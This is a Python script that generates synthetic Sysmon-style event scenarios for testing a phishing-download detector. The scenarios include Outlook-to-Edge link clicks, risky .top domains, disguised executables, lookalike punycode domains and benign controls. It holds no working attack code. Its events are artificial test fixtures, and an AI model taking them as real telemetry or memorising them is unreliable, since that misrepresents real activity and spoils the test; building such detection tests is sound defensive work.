#!/usr/bin/env python3
"""Writes the event files of the scenario corpus: tests/scenarios/<name>.ndjson and <name>.toml.

Deterministic (no randomness, no clock). Only the inputs are generated here: every
<name>.expected is written by hand from the detection semantics (DESIGN section 4), never from
engine output, and each scenario is described in README.md.

Scenarios that share their events (a default run and a configuration variant) are written from
the same function, so the copies cannot drift apart.

Run from this folder: python3 make_scenarios.py
"""
import hashlib
import json
from datetime import datetime, timedelta, timezone

SCENARIOS = {}


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def guid(tag):
    """A Sysmon-style ProcessGuid, stable per tag."""
    h = hashlib.md5(tag.encode()).hexdigest()
    return "{" + f"{h[:8]}-{h[8:12]}-6650-{h[12:16]}-0000000{h[16:21]}" + "}"


class Scenario:
    """Events of one scenario; written sorted by time unless `file_order` is set."""

    def __init__(self, name, base, toml=None, keep_order=False):
        self.name = name
        self.base = datetime.fromisoformat(base).replace(tzinfo=timezone.utc)
        self.rows = []
        self.toml = toml
        self.keep_order = keep_order

    def host(self, name, os):
        return Host(self, name, os)

    def add(self, sec, row):
        ms = round(sec * 1000)
        row["time"] = ts(self.base + timedelta(milliseconds=ms))
        self.rows.append((ms, len(self.rows), row))

    def lines(self):
        rows = self.rows if self.keep_order else sorted(self.rows, key=lambda r: (r[0], r[1]))
        return [json.dumps(r[2], separators=(",", ":")) for r in rows]


class Host:
    def __init__(self, scenario, name, os):
        self.s, self.name, self.os = scenario, name, os

    def ev(self, sec, kind, **fields):
        row = {"time": None, "host": self.name, "os": self.os, "kind": kind}
        row.update({k: v for k, v in fields.items() if v is not None})
        self.s.add(sec, row)

    def start(self, sec, proc, image, parent=None, cmd=None, user=None, session=None):
        self.ev(sec, "process_start", proc=proc, parent=parent, image=image, command_line=cmd, user=user,
                session=session)

    def end(self, sec, proc):
        self.ev(sec, "process_end", proc=proc)

    def url_open(self, sec, proc, url):
        self.ev(sec, "url_open", proc=proc, url=url)

    def dns(self, sec, proc, query, answers):
        self.ev(sec, "dns_answer", proc=proc, query=query, answers=answers)

    def connect(self, sec, proc, ip, port=443, domain=None):
        self.ev(sec, "connect", proc=proc, dst_ip=ip, dst_port=port, domain=domain)

    def write(self, sec, proc, path, op="create", frm=None, origin=None):
        self.ev(sec, "file_write", proc=proc, path=path, op=op, **{"from": frm}, origin=origin)

    def rename(self, sec, proc, frm, path, origin=None):
        self.write(sec, proc, path, "rename", frm, origin)

    def attr(self, sec, proc, path, attr):
        self.ev(sec, "file_attr", proc=proc, path=path, attr=attr)


def scenario(*names):
    """Registers a generator for one or more scenario names (same events, different configs)."""

    def register(fn):
        for name in names:
            SCENARIOS[name] = fn
        return fn

    return register


# ----------------------------------------------------------------------------------------------
# Windows (AN0178)

EXPLORER = r"C:\Windows\explorer.exe"
OUTLOOK = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
WINWORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
EDGE_HELPER = r"C:\Program Files (x86)\Microsoft\Edge\Application\124.0.2478.80\identity_helper.exe"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
FIREFOX_W = r"C:\Program Files\Mozilla Firefox\firefox.exe"
CMD = r"C:\Windows\System32\cmd.exe"
CONHOST = r"C:\Windows\System32\conhost.exe"
WHOAMI = r"C:\Windows\System32\whoami.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
MSHTA = r"C:\Windows\System32\mshta.exe"
ONEDRIVE = r"C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe"
SEVENZIP = r"C:\Program Files\7-Zip\7zFM.exe"
NETWORK_SERVICE = "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none"
RENDERER = "--type=renderer --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id=7 --time-ticks-at-unix-epoch=-1715670000000"
DL = "C:\\Users\\alice\\Downloads\\"
ALICE = "CORP\\alice"
WIN = "WS-042"


def g(s, tag):
    return guid(f"{s.name}/{tag}")


def win_desktop(w, s, p="", user=ALICE):
    """explorer.exe and Outlook, as on any logged-on workstation (`p` prefixes the process tags)."""
    w.start(0.0, g(s, p + "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", user)
    w.start(5.0, g(s, p + "outlook"), OUTLOOK, g(s, p + "explorer"), f'"{OUTLOOK}" ', user)


def edge_from_outlook(w, s, sec, url, tag="edge", p="", user=ALICE):
    """A link clicked in Outlook: msedge.exe starts with the URL, then its network service."""
    tag = p + tag
    w.start(sec, g(s, tag), EDGE, g(s, p + "outlook"), f'"{EDGE}" --single-argument {url}', user)
    w.start(sec + 0.05, g(s, tag + "-net"), EDGE, g(s, tag), f'"{EDGE}" {NETWORK_SERVICE}', user)
    return g(s, tag), g(s, tag + "-net")


def edge_from_desktop(w, s, sec, tag="edge", p="", user=ALICE):
    """Edge started from the taskbar (no URL: any click is inferred)."""
    tag = p + tag
    w.start(sec, g(s, tag), EDGE, g(s, p + "explorer"), f'"{EDGE}" --profile-directory=Default', user)
    w.start(sec + 0.4, g(s, tag + "-net"), EDGE, g(s, tag), f'"{EDGE}" {NETWORK_SERVICE}', user)
    return g(s, tag), g(s, tag + "-net")


def chrome_from_desktop(w, s, sec, tag="chrome"):
    w.start(sec, g(s, tag), CHROME, g(s, "explorer"), f'"{CHROME}"', ALICE)
    w.start(sec + 0.5, g(s, tag + "-net"), CHROME, g(s, tag), f'"{CHROME}" {NETWORK_SERVICE}', ALICE)
    return g(s, tag), g(s, tag + "-net")


def motw(url, referrer=None):
    return {"zone": 3, "url": url, "referrer": referrer}


def strip_none(d):
    return {k: v for k, v in d.items() if v is not None}


def invoice_chain(w, s, t=600.0, hop=None):
    """Outlook -> msedge (URL) -> .top domain -> crdownload -> rename with MotW (as the sample).
    With `hop` (name, address), the link is on that redirector, which is reached first."""
    url = f"https://{hop[0]}/r/8812" if hop else "https://invoice-portal.top/view?id=0514"
    first = hop or ("invoice-portal.top", "203.0.113.77")
    edge, net = edge_from_outlook(w, s, t, url)
    w.dns(t + 0.7, edge, first[0], [first[1]])
    w.connect(t + 0.9, net, first[1])
    w.dns(t + 8.0, edge, "dl.invoice-portal.top", ["203.0.113.78"])
    w.connect(t + 8.3, net, "203.0.113.78")
    w.write(t + 9.0, edge, DL + "Unconfirmed 481516.crdownload")
    w.rename(t + 12.0, edge, DL + "Unconfirmed 481516.crdownload", DL + "Invoice_0514.pdf.exe",
             strip_none(motw("https://dl.invoice-portal.top/files/Invoice_0514.pdf.exe", url)))
    return edge, net


@scenario("an0178-outlook-edge-crdownload-motw")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    invoice_chain(w, s)


@scenario("shipper-lost-exit-pid-in-message", "shipper-lost-exit-pid-entirely")
def _(s):
    # The AN0178 chain, then Edge and its network service exit; in the Security forms every
    # 4689 lost its ProcessId to the shipper (see make_sysmon_scenarios.py).
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = invoice_chain(w, s)
    w.end(640.0, net)
    w.end(640.5, edge)


@scenario("an0178-edge-tmp-partial")
def _(s):
    # As an0178-outlook-edge-crdownload-motw, but Edge downloads into `<final name>.tmp` (as it
    # does for some downloads) before renaming it: the .tmp is a partial, not a download.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://invoice-portal.top/view?id=0514")
    w.dns(600.7, edge, "invoice-portal.top", ["203.0.113.77"])
    w.connect(600.9, net, "203.0.113.77")
    w.write(609.0, edge, DL + "Invoice_0514.pdf.exe.tmp")
    w.rename(612.0, edge, DL + "Invoice_0514.pdf.exe.tmp", DL + "Invoice_0514.pdf.exe",
             strip_none(motw("https://invoice-portal.top/files/Invoice_0514.pdf.exe")))


@scenario("step-no-click-inferred")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 20.0)
    w.dns(300.0, edge, "docs-viewer.top", ["203.0.113.40"])
    w.connect(300.3, net, "203.0.113.40")
    w.write(305.0, edge, DL + "Statement_May.iso.crdownload")
    w.rename(318.0, edge, DL + "Statement_May.iso.crdownload", DL + "Statement_May.iso",
             strip_none(motw("https://docs-viewer.top/files/Statement_May.iso")))


def dns_without_connect(s, name, ip, motw_url):
    """Outlook -> Edge with the link; Edge resolves `name`, but no connection was recorded (no
    network telemetry for it); the download's MotW HostUrl is `motw_url` (none when None)."""
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://invoice-portal.top/view?id=0611")
    w.dns(600.7, edge, name, [ip])
    w.write(609.0, edge, DL + "Unconfirmed 611020.crdownload")
    w.rename(612.0, edge, DL + "Unconfirmed 611020.crdownload", DL + "Invoice_0611.exe",
             strip_none(motw(motw_url)) if motw_url else None)


@scenario("step-no-egress")
def _(s):
    dns_without_connect(s, "invoice-portal.top", "203.0.113.77", "https://invoice-portal.top/files/Invoice_0611.exe")


@scenario("dns-only-egress-other-domain")
def _(s):
    # The lineage resolved a risky name, but the file came from another.
    dns_without_connect(s, "docs-cdn.top", "203.0.113.78", "https://invoice-portal.top/files/Invoice_0611.exe")


@scenario("dns-only-egress-no-origin")
def _(s):
    # No Mark of the Web: a DNS answer alone is no egress.
    dns_without_connect(s, "invoice-portal.top", "203.0.113.77", None)


@scenario("dns-only-egress-subdomain-no-click")
def _(s):
    # Edge started from the taskbar; its network service resolved a host under the origin's
    # registrable domain; no connection logged.
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 20.0)
    w.dns(300.0, net, "cdn.docs-viewer.top", ["203.0.113.79"])
    w.write(309.0, edge, DL + "Unconfirmed 330021.crdownload")
    w.rename(312.0, edge, DL + "Unconfirmed 330021.crdownload", DL + "Statement_May.iso",
             strip_none(motw("https://dl.docs-viewer.top/f/Statement_May.iso")))


@scenario("step-egress-trusted-only")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://www.7-zip.org/download.html")
    w.dns(600.6, edge, "www.7-zip.org", ["198.51.100.27"])
    w.connect(600.8, net, "198.51.100.27")
    w.write(606.0, edge, DL + "7z2408-x64.exe.crdownload")
    w.rename(608.0, edge, DL + "7z2408-x64.exe.crdownload", DL + "7z2408-x64.exe",
             strip_none(motw("https://www.7-zip.org/a/7z2408-x64.exe", "https://www.7-zip.org/download.html")))


def after_warmup(w, s, p="", user=ALICE):
    """Ordinary browsing at 08:00 starts the newly-observed-domain warm-up (1 h)."""
    win_desktop(w, s, p, user)
    edge, net = edge_from_desktop(w, s, 10.0, "edge-morning", p, user)
    w.dns(60.0, edge, "www.wikipedia.org", ["198.51.100.10"])
    w.connect(60.2, net, "198.51.100.10")
    w.dns(300.0, edge, "www.bbc.co.uk", ["198.51.100.12"])
    w.connect(300.2, net, "198.51.100.12")
    w.end(1800.0, net)
    w.end(1800.5, edge)


@scenario("allowlisted-cdn-microsoft-after-warmup")
def _(s):
    w = s.host(WIN, "windows")
    after_warmup(w, s)
    edge, net = edge_from_outlook(w, s, 5400.0, "https://www.microsoft.com/en-us/download/details.aspx?id=105245")
    w.dns(5400.5, edge, "www.microsoft.com", ["198.51.100.31"])
    w.connect(5400.7, net, "198.51.100.31")
    w.dns(5412.0, edge, "download.microsoft.com", ["198.51.100.32"])
    w.connect(5412.2, net, "198.51.100.32")
    w.write(5413.0, edge, DL + "PowerToysSetup-0.81.0-x64.exe.crdownload")
    w.rename(5420.0, edge, DL + "PowerToysSetup-0.81.0-x64.exe.crdownload", DL + "PowerToysSetup-0.81.0-x64.exe",
             strip_none(motw("https://download.microsoft.com/download/7/8/0/780b0f16/PowerToysSetup-0.81.0-x64.exe",
                             "https://www.microsoft.com/")))


def toolkit_download(w, s, t, p="", user=ALICE, dl=DL):
    edge, net = edge_from_outlook(w, s, t, "https://www.toolkit-portal.com/download", "edge", p, user)
    w.dns(t + 0.5, edge, "www.toolkit-portal.com", ["198.51.100.33"])
    w.connect(t + 0.7, net, "198.51.100.33")
    w.dns(t + 12.0, edge, "downloads.toolkit-portal.com", ["198.51.100.34"])
    w.connect(t + 12.2, net, "198.51.100.34")
    w.write(t + 13.0, edge, dl + "ToolkitSetup-3.2.exe.crdownload")
    w.rename(t + 20.0, edge, dl + "ToolkitSetup-3.2.exe.crdownload", dl + "ToolkitSetup-3.2.exe",
             strip_none(motw("https://downloads.toolkit-portal.com/win/ToolkitSetup-3.2.exe",
                             "https://www.toolkit-portal.com/download")))


@scenario("newly-observed-domain", "newly-observed-domain-no-store")
def _(s):
    w = s.host(WIN, "windows")
    after_warmup(w, s)
    toolkit_download(w, s, 5400.0)


def bob_browses_then_downloads(s, t):
    """WS-043: bob's morning browsing, then the toolkit download at `t`."""
    b = s.host("WS-043", "windows")
    after_warmup(b, s, "b-", "CORP\\bob")
    toolkit_download(b, s, t, "b-", "CORP\\bob", "C:\\Users\\bob\\Downloads\\")


def alice_then_bob_download(s, t_bob):
    """The same phishing mail on two workstations: alice clicks at 5400 s, bob at `t_bob`."""
    a = s.host(WIN, "windows")
    after_warmup(a, s, "a-")
    toolkit_download(a, s, 5400.0, "a-")
    bob_browses_then_downloads(s, t_bob)


@scenario("newly-observed-domain-second-host")
def _(s):
    # The second user clicks three minutes later.
    alice_then_bob_download(s, 5580.0)


@scenario("nod-store-warmed-on-another-host")
def _(s):
    # A store that saw only WS-042's browsing for a week; WS-043, new to it, browses and then
    # downloads from a domain first seen now.
    bob_browses_then_downloads(s, 5400.0)


@scenario("nod-store-per-host-history")
def _(s):
    # The same store; the same download on WS-042 (whose history it holds) and, a minute later,
    # on WS-043 (whose history it does not).
    alice_then_bob_download(s, 5460.0)


@scenario("nod-replay-three-hours-ordinary-browsing", "nod-replay-three-hours-warmed-store")
def _(s):
    # Three hours of ordinary browsing, each site first visited after the 1 h warm-up, then an
    # ordinary download from a site also first visited then.
    w = s.host(WIN, "windows")
    after_warmup(w, s)
    edge, net = edge_from_desktop(w, s, 5400.0, "edge-noon")
    for i, (site, ip) in enumerate([("www.harbour-times.com", "198.51.100.40"), ("www.recipe-box.org", "198.51.100.41"),
                                    ("www.alpine-trails.net", "198.51.100.42")]):
        t = 5400.0 + 1800.0 * i
        w.dns(t + 60.0, edge, site, [ip])
        w.connect(t + 60.2, net, ip)
    w.end(9000.0, net)
    w.end(9000.5, edge)
    edge, net = edge_from_outlook(w, s, 9900.0, "https://www.city-library.org/forms", "edge-library")
    w.dns(9900.5, edge, "www.city-library.org", ["198.51.100.43"])
    w.connect(9900.7, net, "198.51.100.43")
    w.write(9910.0, edge, DL + "Library_Card_Form.pdf.crdownload")
    w.rename(9912.0, edge, DL + "Library_Card_Form.pdf.crdownload", DL + "Library_Card_Form.pdf",
             strip_none(motw("https://www.city-library.org/files/Library_Card_Form.pdf",
                             "https://www.city-library.org/forms")))


def idn_download(w, s, host, file):
    """Outlook -> msedge with a link on `host` (punycode), which serves `file`."""
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, f"https://{host}/account/verify")
    w.dns(600.5, edge, host, ["198.51.100.60"])
    w.connect(600.7, net, "198.51.100.60")
    w.write(611.0, edge, DL + file + ".crdownload")
    w.rename(614.0, edge, DL + file + ".crdownload", DL + file,
             strip_none(motw(f"https://{host}/dl/{file}", f"https://{host}/account/verify")))


# Links on internationalised names: (host, file served).
IDN_SCENARIOS = {
    # "pаypal" with a Cyrillic а among Latin letters.
    "lookalike-mixed-script-idn": ("www.xn--pypal-4ve.com", "Statement_0514.exe"),
    # "аррӏе" written wholly in Cyrillic: one script, but it reads "apple".
    "lookalike-cyrillic-brand": ("www.xn--80ak6aa92e.com", "iCloud_Restore.exe"),
    # bücher.de: a real single-script German name.
    "idn-legitimate-german-name": ("www.xn--bcher-kva.de", "Leseprobe_Setup.exe"),
    # ソニー銀行.jp: Katakana and Han, as Japanese names are written.
    "idn-legitimate-japanese-name": ("www.xn--3ck2a1k7986aexk.jp", "BankApp_Setup.exe"),
}
for _name, (_idn_host, _idn_file) in IDN_SCENARIOS.items():
    scenario(_name)(lambda s, h=_idn_host, f=_idn_file: idn_download(s.host(WIN, "windows"), s, h, f))


def chain_with_write(w, s, write):
    """Outlook -> msedge (URL) -> .top domain, then `write(edge)` decides where the file goes."""
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://invoice-portal.top/view?id=0612")
    w.dns(600.7, edge, "invoice-portal.top", ["203.0.113.77"])
    w.connect(600.9, net, "203.0.113.77")
    write(edge)


def outlook_fetches_attachment(w, s, folder):
    """Outlook itself fetches a linked attachment from a .top host and saves it under `folder`."""
    win_desktop(w, s)
    w.dns(600.0, g(s, "outlook"), "share-docs.top", ["203.0.113.90"])
    w.connect(600.3, g(s, "outlook"), "203.0.113.90")
    w.write(612.0, g(s, "outlook"), folder + "Q3_Remittance.docm")


INETCACHE = "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"


@scenario("benign-outlook-attachment-content-outlook")
def _(s):
    # Outlook's attachment cache: an opened attachment is T1204.002, not a link's download.
    outlook_fetches_attachment(s.host(WIN, "windows"), s, INETCACHE + "Content.Outlook\\7K2XQ9ZB\\")


@scenario("benign-office-cache-content-mso")
def _(s):
    outlook_fetches_attachment(s.host(WIN, "windows"), s, INETCACHE + "Content.MSO\\7K2XQ9ZB\\")


@scenario("benign-office-cache-content-word")
def _(s):
    outlook_fetches_attachment(s.host(WIN, "windows"), s, INETCACHE + "Content.Word\\")


@scenario("outlook-attachment-saved-to-downloads")
def _(s):
    # Near miss: the same file saved into Downloads, which is download-like.
    outlook_fetches_attachment(s.host(WIN, "windows"), s, DL)


@scenario("benign-outlook-write-inetcache-ie")
def _(s):
    # The same fetch landing in the IE/WebView cache (a cache folder, excluded): no alert.
    w = s.host(WIN, "windows")
    outlook_fetches_attachment(w, s, "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\7K2XQ9ZB\\")


@scenario("step-write-not-user-path")
def _(s):
    w = s.host(WIN, "windows")
    origin = strip_none(motw("https://invoice-portal.top/files/Invoice_0612.exe"))

    def write(edge):
        # The user's download folder was moved to a data drive outside the profile.
        w.write(608.0, edge, r"D:\Downloads\Invoice_0612.exe.crdownload")
        w.rename(611.0, edge, r"D:\Downloads\Invoice_0612.exe.crdownload", r"D:\Downloads\Invoice_0612.exe", origin)

    chain_with_write(w, s, write)


@scenario("step-write-not-download-like")
def _(s):
    w = s.host(WIN, "windows")
    origin = strip_none(motw("https://invoice-portal.top/files/Invoice_0612.pdf"))

    def write(edge):
        # "Save as" into Documents: a user path, but not Downloads, not a risky type, no archive.
        w.write(608.0, edge, r"C:\Users\alice\Documents\Invoice_0612.pdf.crdownload")
        w.rename(611.0, edge, r"C:\Users\alice\Documents\Invoice_0612.pdf.crdownload",
                 r"C:\Users\alice\Documents\Invoice_0612.pdf", origin)

    chain_with_write(w, s, write)


@scenario("step-write-browser-profile")
def _(s):
    w = s.host(WIN, "windows")
    ext = r"C:\Users\alice\AppData\Local\Microsoft\Edge\User Data\Default\Extensions\hmbedkcdpkmcigdhnpkpnbmjjdgodhlm\1.4.2_0"

    def write(edge):
        # A high-risk extension in a user path, but inside Edge's own profile folder.
        w.write(608.0, edge, ext + r"\manifest.json")
        w.write(608.1, edge, ext + r"\content.js")
        w.write(608.2, edge, r"C:\Users\alice\AppData\Local\Microsoft\Edge\User Data\Default\Cache\Cache_Data\f_0003a1")

    chain_with_write(w, s, write)


def window_observed(w, s, write_at):
    """Click at 100.000 s, egress right after it (100.300 s), a slow download, strong origin."""
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 100.0, "https://hrpolicy-portal.top/docs/2024")
    w.dns(100.1, edge, "hrpolicy-portal.top", ["203.0.113.50"])
    w.connect(100.3, net, "203.0.113.50")
    w.write(105.0, edge, DL + "HR_Policy_2024.iso.crdownload")
    w.rename(write_at, edge, DL + "HR_Policy_2024.iso.crdownload", DL + "HR_Policy_2024.iso",
             strip_none(motw("https://hrpolicy-portal.top/files/HR_Policy_2024.iso",
                             "https://hrpolicy-portal.top/docs/2024")))


@scenario("window-observed-inside", "window-observed-inside-5m-window")
def _(s):
    window_observed(s.host(WIN, "windows"), s, 1000.000)


@scenario("window-observed-outside")
def _(s):
    window_observed(s.host(WIN, "windows"), s, 1000.001)


def window_inferred(w, s, write_at):
    """No click; the only egress at 100.300 s; a slow download with a strong origin."""
    win_desktop(w, s)
    edge, net = edge_from_desktop(w, s, 20.0)
    w.dns(100.1, edge, "hrpolicy-portal.top", ["203.0.113.50"])
    w.connect(100.3, net, "203.0.113.50")
    w.write(105.0, edge, DL + "HR_Policy_2024.iso.crdownload")
    w.rename(write_at, edge, DL + "HR_Policy_2024.iso.crdownload", DL + "HR_Policy_2024.iso",
             strip_none(motw("https://hrpolicy-portal.top/files/HR_Policy_2024.iso")))


@scenario("window-inferred-inside")
def _(s):
    window_inferred(s.host(WIN, "windows"), s, 1000.300)


@scenario("window-inferred-outside")
def _(s):
    window_inferred(s.host(WIN, "windows"), s, 1000.301)


def download_gap(w, s, write_at):
    """Click, one egress at 101.000 s, a blob download (HostUrl about:internet) at `write_at`."""
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 100.0, "https://media-player.top/watch?v=8812")
    w.dns(100.1, edge, "media-player.top", ["203.0.113.60"])
    w.connect(101.0, net, "203.0.113.60")
    w.write(write_at, edge, DL + "MediaPlayerCodec.exe", origin={"zone": 3, "url": "about:internet"})


@scenario("gap-edge-medium")
def _(s):
    download_gap(s.host(WIN, "windows"), s, 221.000)


@scenario("gap-edge-weak", "gap-edge-weak-min-weak")
def _(s):
    download_gap(s.host(WIN, "windows"), s, 221.001)


@scenario("benign-risky-visit-then-trusted-download", "benign-risky-visit-then-trusted-download-min-weak")
def _(s):
    w = s.host(WIN, "windows")
    w.start(0.0, g(s, "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    chrome, net = chrome_from_desktop(w, s, 20.0)
    w.dns(60.0, chrome, "www.bbc.co.uk", ["198.51.100.12"])
    w.connect(60.2, net, "198.51.100.12")
    # A look at a deals site on a risky TLD; nothing is downloaded from it.
    w.dns(120.0, chrome, "cheap-deals.xyz", ["198.51.100.99"])
    w.connect(120.2, net, "198.51.100.99")
    w.dns(400.0, chrome, "docs.python.org", ["198.51.100.13"])
    w.connect(400.2, net, "198.51.100.13")
    # About twelve minutes later: the Python installer from python.org.
    w.dns(840.0, chrome, "www.python.org", ["198.51.100.20"])
    w.connect(840.2, net, "198.51.100.20")
    w.write(841.0, chrome, DL + "python-3.12.3-amd64.exe.crdownload")
    w.rename(846.0, chrome, DL + "python-3.12.3-amd64.exe.crdownload", DL + "python-3.12.3-amd64.exe",
             strip_none(motw("https://www.python.org/ftp/python/3.12.3/python-3.12.3-amd64.exe",
                             "https://www.python.org/downloads/")))


@scenario("allowlisted-origin-right-after-risky-visit", "risky-visit-then-unknown-origin-weak",
          "risky-visit-then-risky-origin-medium")
def _(s):
    """A risky visit, then 30 s later a download whose MotW names another domain: allowlisted
    (Microsoft's CDN) in the first scenario, an unknown .org site in the second, a .top site
    whose connection was not logged in the third."""
    w = s.host(WIN, "windows")
    w.start(0.0, g(s, "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    chrome, net = chrome_from_desktop(w, s, 20.0)
    w.dns(120.0, chrome, "cheap-deals.xyz", ["198.51.100.99"])
    w.connect(120.2, net, "198.51.100.99")
    if s.name.startswith("allowlisted"):
        host, url = "statics.teams.cdn.office.net", "https://statics.teams.cdn.office.net/production-windows-x64/TeamsSetup.exe"
    elif "unknown" in s.name:
        host, url = "files.toolbox-downloads.org", "https://files.toolbox-downloads.org/TeamsSetup.exe"
    else:
        host, url = None, "https://files.update-center.top/TeamsSetup.exe"
    if host:
        w.dns(149.0, chrome, host, ["198.51.100.30"])
        w.connect(149.2, net, "198.51.100.30")
    w.write(150.0, chrome, DL + "TeamsSetup.exe", origin=strip_none(motw(url)))


@scenario("deep-lineage-network-child-and-helper-grandchild")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://shared-files.top/s/Q2-budget")
    w.start(600.5, g(s, "renderer"), EDGE, edge, f'"{EDGE}" {RENDERER}', ALICE)
    w.dns(601.0, edge, "shared-files.top", ["203.0.113.120"])
    w.connect(601.2, net, "203.0.113.120")
    w.start(640.0, g(s, "helper"), EDGE_HELPER, g(s, "renderer"),
            f'"{EDGE_HELPER}" --type=utility --mojo-named-platform-channel-pipe=7428.8812.1930284551', ALICE)
    w.write(650.0, g(s, "helper"), DL + "Q2-budget.zip")


@scenario("egress-and-write-in-different-roots")
def _(s):
    w = s.host(WIN, "windows")
    w.start(0.0, g(s, "explorer"), EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    chrome, net = chrome_from_desktop(w, s, 20.0)
    w.start(30.0, g(s, "firefox"), FIREFOX_W, g(s, "explorer"), f'"{FIREFOX_W}"', ALICE)
    w.dns(300.0, chrome, "freemovies.top", ["203.0.113.66"])
    w.connect(300.2, net, "203.0.113.66")
    w.dns(318.0, g(s, "firefox"), "get.videolan.org", ["198.51.100.44"])
    w.connect(318.2, g(s, "firefox"), "198.51.100.44")
    w.write(320.0, g(s, "firefox"), DL + "vlc-3.0.21-win64.exe",
            origin=strip_none(motw("https://get.videolan.org/vlc/3.0.21/win64/vlc-3.0.21-win64.exe")))


def pid_reuse(w, s, browser_writes):
    """msedge.exe pid 500 reaches a .top domain and exits; pid 500 is reused by OneDrive.exe."""
    w.start(0.0, 4120, EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    w.start(5.0, 5312, OUTLOOK, 4120, f'"{OUTLOOK}" ', ALICE)
    w.start(600.0, 500, EDGE, 5312, f'"{EDGE}" --single-argument https://project-files.top/d/ProjectSetup', ALICE)
    w.dns(600.3, 500, "project-files.top", ["203.0.113.130"])
    w.connect(600.5, 500, "203.0.113.130")
    if browser_writes:
        w.write(615.0, 500, DL + "ProjectSetup.exe")
    w.end(620.0, 500)
    w.start(640.0, 500, ONEDRIVE, 4120, f'"{ONEDRIVE}" /background', ALICE)
    w.write(650.0, 500, DL + "ProjectSetup.exe")


@scenario("pid-reuse-unrelated-writer")
def _(s):
    pid_reuse(s.host("WS-077", "windows"), s, False)


@scenario("pid-reuse-control")
def _(s):
    pid_reuse(s.host("WS-077", "windows"), s, True)


@scenario("pid-reuse-browser-relaunch-same-file")
def _(s):
    # Links in a PDF open in Edge (its own link root); Edge is closed, then a second link opens
    # Edge again under the same (reused) pid 500, and the same file name is downloaded again.
    w = s.host("WS-077", "windows")
    acrobat = r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe"
    w.start(0.0, 4120, EXPLORER, None, r"C:\Windows\Explorer.EXE", ALICE)
    w.start(500.0, 6100, acrobat, 4120, f'"{acrobat}" "C:\\Users\\alice\\Documents\\Project_brief.pdf"', ALICE)
    for t, site, ip in [(600.0, "project-files.top", "203.0.113.130"), (700.0, "setup-center.top", "203.0.113.131")]:
        w.start(t, 500, EDGE, 6100, f'"{EDGE}" --single-argument https://{site}/get/ProjectSetup', ALICE)
        w.dns(t + 0.3, 500, site, [ip])
        w.connect(t + 0.5, 500, ip)
        w.write(t + 15.0, 500, DL + "ProjectSetup.exe")
        w.end(t + 20.0, 500)


@scenario("partial-never-renamed")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://invoice-portal.top/view?id=0615")
    w.dns(600.7, edge, "invoice-portal.top", ["203.0.113.77"])
    w.connect(600.9, net, "203.0.113.77")
    # Download cancelled (or blocked): the partial never gets its final name.
    w.write(609.0, edge, DL + "Unconfirmed 318200.crdownload")
    w.write(612.0, edge, DL + "Invoice_0615.exe.crdownload")
    w.end(700.0, net)
    w.end(700.5, edge)


def pay_notice(w, s, dns, event_domain, url="https://payment-notice.top/inv/5531"):
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, url)
    if dns:
        w.dns(600.6, edge, "payment-notice.top", ["203.0.113.55"])
    w.connect(600.8, net, "203.0.113.55", domain="payment-notice.top" if event_domain else None)
    w.write(606.0, edge, DL + "Unconfirmed 553100.crdownload")
    w.rename(610.0, edge, DL + "Unconfirmed 553100.crdownload", DL + "Invoice_5531.exe",
             strip_none(motw("https://payment-notice.top/files/Invoice_5531.exe", url)))


@scenario("domain-from-event")
def _(s):
    w = s.host(WIN, "windows")
    # The link is a shortener; the connect event names the real destination.
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://t.co/Xk29aBq7")
    w.connect(600.5, net, "198.51.100.5", domain="t.co")
    w.connect(600.8, net, "203.0.113.55", domain="payment-notice.top")
    w.write(606.0, edge, DL + "Unconfirmed 553100.crdownload")
    w.rename(610.0, edge, DL + "Unconfirmed 553100.crdownload", DL + "Invoice_5531.exe",
             strip_none(motw("https://payment-notice.top/files/Invoice_5531.exe", "https://t.co/")))


@scenario("domain-from-dns")
def _(s):
    w = s.host(WIN, "windows")
    win_desktop(w, s)
    edge, net = edge_from_outlook(w, s, 600.0, "https://t.co/Xk29aBq7")
    w.dns(600.3, edge, "t.co", ["198.51.100.5"])
    w.connect(600.5, net, "198.51.100.5")
    w.dns(600.6, edge, "payment-notice.top", ["203.0.113.55"])
    w.connect(600.8, net, "203.0.113.55")
